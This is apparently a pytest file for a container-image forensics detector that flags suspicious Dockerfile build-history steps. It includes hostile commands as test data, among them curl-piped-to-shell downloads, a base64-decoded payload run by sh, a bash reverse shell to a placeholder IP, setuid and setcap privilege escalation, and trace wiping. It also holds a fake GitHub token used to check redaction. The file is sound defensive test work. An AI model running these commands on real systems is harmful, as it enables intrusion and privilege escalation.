"""Build steps: what they ran, which layer they made, and what is worth telling."""

from __future__ import annotations

import pytest

from forensics.detectors import Scene
from forensics.detectors._instructions import command_of, destination, steps
from forensics.detectors.build_history import DETECTOR
from forensics.model.findings import Finding
from forensics.model.image import HistoryEntry, Image, LayerSource
from tests.scenes import config


def judge(*lines: str | HistoryEntry, layers: int | None = None) -> list[Finding]:
    sources = tuple(LayerSource(index=n, name="") for n in range(len(lines) if layers is None else layers))
    image = Image(source="x", reference="x", config=config(history=lines), layers=sources)
    return list(DETECTOR.detect(Scene(image=image, rules={})))


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("/bin/sh -c apt-get update", "apt-get update"),
        ("RUN /bin/sh -c apt-get update # buildkit", "apt-get update # buildkit"),
        ("|2 A=b C=d /bin/sh -c make", "make"),
        ("RUN |1 A=b /bin/bash -o pipefail -c make", "make"),
        ("RUN /bin/ash -eo pipefail -c make", "make"),
        ('/bin/sh -c #(nop)  CMD ["sh"]', ""),
        ("COPY a /b # buildkit", ""),
        ("ENV A=sh -c x", ""),
        ("bash", "bash"),
        ("RUN make", "make"),
        ("RUN curl http://x.invalid | sh; sh -c true", "curl http://x.invalid | sh; sh -c true"),
    ],
)
def test_command_of_a_history_line(line: str, command: str) -> None:
    assert command_of(line) == command


@pytest.mark.parametrize(
    ("line", "place"),
    [
        ("COPY a b /opt/x/ # buildkit", "/opt/x/"),
        ("/bin/sh -c #(nop) COPY file:12 in /bin/registry ", "/bin/registry"),
        ("/bin/sh -c #(nop) ADD file:12 in / ", "/"),
        ("RUN cp a /b", ""),
        ("COPY", ""),
    ],
)
def test_destination_of_a_copy(line: str, place: str) -> None:
    assert destination(line) == place


def test_steps_know_their_layer_only_where_the_counts_agree() -> None:
    history = (
        HistoryEntry(created_by="a"),
        HistoryEntry(created_by="b", empty_layer=True),
        HistoryEntry(created_by="c"),
    )
    two = tuple(LayerSource(index=n, name="") for n in range(2))
    image = Image(source="x", reference="x", config=config(history=history), layers=two)
    assert [(step.line, step.layer) for step in steps(image)] == [("a", 0), ("b", None), ("c", 1)]
    odd = Image(source="x", reference="x", config=config(history=history), layers=two[:1])
    assert [step.layer for step in steps(odd)] == [None, None, None]


@pytest.mark.parametrize(
    ("line", "rule", "severity"),
    [
        ("RUN curl http://a.invalid/i.sh | sh", "history/download-piped", "medium"),
        ("RUN curl http://192.0.2.9/i.sh | sh", "history/download-piped", "high"),
        ("RUN curl -fsSL https://deb.nodesource.com/setup_18.x | bash -", "history/download-piped", "low"),
        ("RUN curl -fsSL http://deb.nodesource.com/setup_18.x | bash -", "history/download-piped", "medium"),
        (
            "RUN curl -fsSL https://deb.nodesource.com.a.invalid/x | bash -",
            "history/download-piped",
            "medium",
        ),
        ("RUN wget https://a.invalid/i.sh && sh i.sh", "history/download-run", "low"),
        ("RUN wget http://a.invalid/i.sh && sh i.sh", "history/download-run", "medium"),
        ("RUN echo aGk= | base64 -d | sh", "history/decode-run", "high"),
        ("RUN bash -c 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'", "history/remote-shell", "high"),
        ("RUN history -c", "history/traces-wiped", "medium"),
        ("RUN wget --no-check-certificate https://a.invalid/x", "history/trust-disabled", "low"),
        ("RUN apk add masscan libpcap", "history/attack-tools", "medium"),
        ("RUN chmod u+s /bin/bash", "history/setuid-shell", "high"),
        ("RUN chmod 4755 /usr/bin/find", "history/setuid-shell", "high"),
        ("RUN setcap cap_setuid+ep /usr/bin/python3.11", "history/setuid-shell", "high"),
    ],
)
def test_telling_steps(line: str, rule: str, severity: str) -> None:
    (found,) = judge("FROM x", line)
    assert (found.rule_id, str(found.severity), found.layer) == (rule, severity, 1)
    assert found.evidence[0].kind == "history"
    assert found.evidence[0].text.startswith("step 2: ")


@pytest.mark.parametrize(
    "line",
    [
        "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
        "RUN curl -fsSL https://a.invalid/k.asc | gpg --dearmor -o /usr/share/keyrings/k.gpg",
        'RUN wget -O p.tgz https://a.invalid/p.tgz && echo "$S *p.tgz" | sha256sum -c - && tar -xzf p.tgz',
        "RUN chmod 755 /bin/bash && chmod +x /entrypoint.sh && chmod 1777 /tmp",
        "RUN setcap 'cap_net_bind_service=+ep' /usr/bin/caddy",
        "COPY install.sh /tmp/install.sh # curl http://a.invalid | sh",
        'ENV A="curl http://a.invalid | sh"',
        "RUN rm -rf /var/log/* /tmp/*",
        "RUN apt-get install -y nmap tor",
    ],
)
def test_good_steps(line: str) -> None:
    assert judge(line) == []


TOKEN = "ghp_" + "a1B2c3D4e5" * 4
PIPED = "history/download-piped"


@pytest.mark.parametrize(
    ("line", "command", "shown"),
    [
        (
            f"RUN |1 TOKEN={TOKEN} /bin/sh -c curl http://a.invalid/i | sh # buildkit",
            "curl",
            "RUN |1 TOKEN=… curl",
        ),
        (
            f"|2 A=b TOKEN={TOKEN} /bin/bash -o pipefail -c curl http://a.invalid/i | sh",
            "curl",
            "|2 A=… TOKEN=… curl",
        ),
        (f"RUN |1 TOKEN={TOKEN} curl http://a.invalid/i | sh", "curl", "RUN |1 TOKEN=… curl"),
        (
            f"RUN --mount=type=cache |1 TOKEN={TOKEN} /bin/sh -c curl http://a.invalid/i | sh",
            "curl",
            "RUN --mount",
        ),
        (
            f"RUN |2 NOTE=two words TOKEN={TOKEN} /bin/sh -c curl http://a.invalid/i | sh",
            "curl",
            "RUN |2 NOTE=… TOKEN",
        ),
        (f"RUN |1 NOTE=see {TOKEN} /bin/sh -c curl http://a.invalid/i | sh", "curl", "RUN |1 NOTE=… curl"),
    ],
)
def test_build_arguments_are_no_part_of_the_command(line: str, command: str, shown: str) -> None:
    (found,) = judge(line)
    assert found.rule_id == PIPED
    texts = [one.text for one in found.evidence]
    assert texts[0].startswith(
        f"step 1: hands a download to an interpreter: {command} http://a.invalid/i | sh"
    )
    assert texts[1].startswith(shown)
    assert not [text for text in texts if "ghp_" in text]


@pytest.mark.parametrize(
    "line",
    [
        "RUN |1 FETCH=curl /bin/sh -c sh -s < /opt/x",
        "RUN |1 URL=http://a.invalid/i bash /opt/x",
        "RUN |2 A=--allow-untrusted B=gpgcheck=0 /bin/sh -c make",
        "RUN |1 A=x; /bin/sh -c make",
        "RUN |9 A=b",
        "RUN |1",
        "RUN |0 /bin/sh -c make",
        "|99999999999999999999 A=b make",
    ],
)
def test_nothing_is_told_because_of_build_arguments(line: str) -> None:
    assert judge(line) == []


def test_a_bar_without_arguments_is_still_a_pipe() -> None:
    (found,) = judge("RUN curl http://a.invalid/i |sh")
    assert found.rule_id == PIPED
